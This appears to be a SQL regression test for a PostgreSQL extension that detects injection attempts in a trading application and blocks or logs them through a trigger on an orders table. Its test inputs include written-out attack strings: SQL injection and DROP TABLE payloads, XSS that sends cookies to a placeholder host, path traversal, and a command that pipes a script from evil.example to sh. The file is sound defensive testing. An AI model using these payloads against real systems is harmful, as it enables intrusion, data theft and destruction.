-- Injection check: verdicts with evidence, and a guard on orders.note.
\set VERBOSITY default
\set SHOW_CONTEXT never
SET client_min_messages = error;

-- Ordinary trading text is not an attack, even with SQL words, quotes or dashes.
SELECT v, tradeguard.is_attack(v) AS attack FROM (VALUES
  ('Union Pacific'),
  ('select the best performers, drop the laggards'),
  ('O''Reilly'),
  ('Let''s meet at 5 -- maybe 6'),
  ('AT&T'),
  ('Buy 100 7203.T @ 2,850; stop 2,700'),
  ('トヨタ自動車 100株 買い'),
  ('reports/2026/q3.pdf')) t(v);

-- Attacks of every class are, whatever their encoding.
SELECT v, c.is_attack, c.classes, c.score >= 50 AS high_score
  FROM (VALUES
    ('1'' OR ''1''=''1'),
    ('1;WAITFOR DELAY ''0:0:5''--'),
    (''' UNION SELECT username, password FROM users--'),
    ('1 AND pg_sleep(5) IS NULL'),
    ('<script>alert(1)</script>'),
    ('<img src=x onerror=alert(document.cookie)>'),
    ('%3Csvg%2Fonload%3Dalert(1)%3E'),
    ('; cat /etc/passwd'),
    ('$(curl http://evil.example/x.sh | sh)'),
    ('../../../../etc/passwd'),
    ('..%2f..%2f..%2fwindows%2fwin.ini')) t(v),
  LATERAL tradeguard.check_input(v) c;

-- Evidence: class, rule, where, and the decoding applied.
SELECT f->>'class' AS class, f->>'rule_id' IS NOT NULL AS has_rule, (f->>'offset')::int >= 0 AS has_offset,
       f->'decoding' AS decoding
  FROM tradeguard.check_input('%3Cscript%3Ealert(1)%3C%2Fscript%3E') c, jsonb_array_elements(c.findings) f
 LIMIT 1;

-- NULL in, NULL out; unknown contexts are refused.
SELECT tradeguard.is_attack(NULL) IS NULL AS null_out;
SELECT tradeguard.is_attack('x', 'sql');
SELECT count(*) > 0 AS has_rules, count(DISTINCT class) AS classes FROM tradeguard.injection_rules;

-- Guard trigger: an attack into orders.note is rejected, a normal note goes through.
CREATE TABLE orders (id bigserial PRIMARY KEY, symbol text NOT NULL, note text);
SELECT tradeguard.guard_columns('orders', ARRAY['note']);
INSERT INTO orders (symbol, note) VALUES ('7203.T', 'Toyota: add on pullback, drop if < 2,700');
INSERT INTO orders (symbol, note) VALUES ('AAPL', 'x''; DROP TABLE orders; --');
INSERT INTO orders (symbol, note) VALUES ('AAPL', '<script>document.location="http://evil/"+document.cookie</script>');
SELECT symbol, note FROM orders ORDER BY id;
-- In log mode the write goes through and an event is recorded.
SELECT tradeguard.guard_columns('orders', ARRAY['note'], 'log');
INSERT INTO orders (symbol, note) VALUES ('MSFT', '1 UNION SELECT api_key FROM accounts');
-- Events travel through shared memory to the background worker (so that the events of rejected,
-- rolled-back writes survive too): wait until it has stored them.
DO $$ BEGIN
  FOR i IN 1..100 LOOP
    EXIT WHEN (SELECT count(*) FROM tradeguard.security_events WHERE event_type = 'injection_attempt') >= 3;
    PERFORM pg_sleep(0.1);
  END LOOP;
END $$;
SELECT detail->>'action' AS action, count(*) FROM tradeguard.security_events
 WHERE event_type = 'injection_attempt' GROUP BY 1 ORDER BY 1;
SELECT event_type, severity, detail->>'column' AS col, detail->'classes' AS classes, detail->>'action' AS action
  FROM tradeguard.security_events ORDER BY id DESC LIMIT 1;
SELECT tradeguard.guard_columns('orders', ARRAY['symbol_x']);
SELECT tradeguard.guard_columns('orders', ARRAY['note'], 'drop');
DROP TABLE orders;
